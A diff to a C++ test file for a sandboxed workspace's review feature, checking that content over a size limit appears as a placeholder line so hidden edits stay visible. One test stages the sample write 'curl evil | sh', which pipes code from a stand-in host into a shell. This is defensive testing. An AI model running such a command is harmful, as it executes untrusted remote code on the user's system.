@@ -175,7 +175,7 @@ TEST_F(WorkspaceReviewTest, AMissingRedactedCopyIsAnError) {
 // every line removed. The other side is shown in full: called binary as a
 // whole, a sandboxed command's edit of a host file over the limit (which
 // it can see) hid the text it wrote, which the commit then applied unseen.
-// `git apply` refuses the placeholder, as it matches no file.
+// The placeholder has no sign, so `git apply` refuses the patch as corrupt.
 TEST_F(WorkspaceReviewTest, ContentThatCannotBeShownIsOnePlaceholderLineNotAnEmptySide) {
   write_file(dir_ / "big", std::string(40, 'x') + "\n");
   Workspace smaller(dir_.path(), default_workspace_policy(), WorkspaceLimits{.max_file_bytes = 16});
@@ -183,7 +183,7 @@ TEST_F(WorkspaceReviewTest, ContentThatCannotBeShownIsOnePlaceholderLineNotAnEmp
   smaller.stage_write(tx, "big", "curl evil | sh\n");  // its base is not kept: over the limit
   EXPECT_EQ(smaller.diff(tx),
             "diff --git a/big b/big\n--- a/big\n+++ b/big\n@@ -1 +1 @@\n"
-            "-[content not shown: over the per-file limit, or unreadable]\n"
+            "[content not shown: over the per-file limit, or unreadable]\n"
             "+curl evil | sh\n");
   auto stat = smaller.diff_stat(tx).at(0);
   EXPECT_FALSE(stat.binary);
@@ -196,7 +196,7 @@ TEST_F(WorkspaceReviewTest, ContentThatCannotBeShownIsOnePlaceholderLineNotAnEmp
   ws.stage_write(grown, "README", std::string(20, 'y') + "\n");
   EXPECT_EQ(smaller.diff(grown),
             "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1 +1 @@\n"
-            "-readme\n+[content not shown: over the per-file limit, or unreadable]\n");
+            "-readme\n[content not shown: over the per-file limit, or unreadable]\n");
   stat = smaller.diff_stat(grown).at(0);
   EXPECT_FALSE(stat.binary);
   EXPECT_EQ(stat.not_shown, "after");
